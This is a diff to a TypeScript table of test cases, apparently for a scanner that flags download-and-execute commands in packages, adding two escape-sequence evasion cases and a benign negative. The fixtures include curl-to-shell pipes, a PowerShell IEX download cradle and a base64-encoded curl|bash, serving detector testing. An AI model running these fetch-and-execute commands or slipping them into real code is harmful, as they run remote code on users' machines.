@@ -262,10 +262,14 @@ const CASES: Record<string, { hit: Case[]; miss: Case[] }> = {
       { name: 'curl-pipe-sh', files: mod(lines('import os', "os.system('curl -s http://203.0.113.5/x | sh')")) },
       { name: 'powershell-cradle-in-bat', files: { 'demo-1.0/tools/run.bat': lines('powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/x\')"') } },
       { name: 'decoded-curl-pipe-bash', files: mod(lines('import base64', `cmd = base64.b64decode('${Buffer.from('curl http://203.0.113.5/x | bash').toString('base64')}')`)) },
+      // The escape's hex digits run into `curl` in the text (`u00e9curl`); the value reads `écurl`.
+      { name: 'curl-after-a-non-ascii-escape', files: mod(lines('import os', "os.system('\\u00e9curl -s https://example.org/x | sh')")) },
+      { name: 'irm-alias-after-a-tab-escape', files: mod(lines('import os', "os.system('powershell_ -c irm\\thttps://example.org/x | iex')")) },
     ],
     miss: [
       { name: 'curl-to-file', files: mod(lines('import subprocess', "subprocess.run(['curl', '-o', 'data.json', 'https://example.org/data.json'])")) },
       { name: 'powershell-keyword-list', files: mod(lines("KEYWORDS = 'iex ihy ii ipal irm ise iwmi iwr kill'")) },
+      { name: 'place-name', files: mod(lines('import os', "NAMES = {'pt': u'Dois Irm\\u00e3os', 'cmd': os.system}")) },
     ],
   },
   'network-request': {
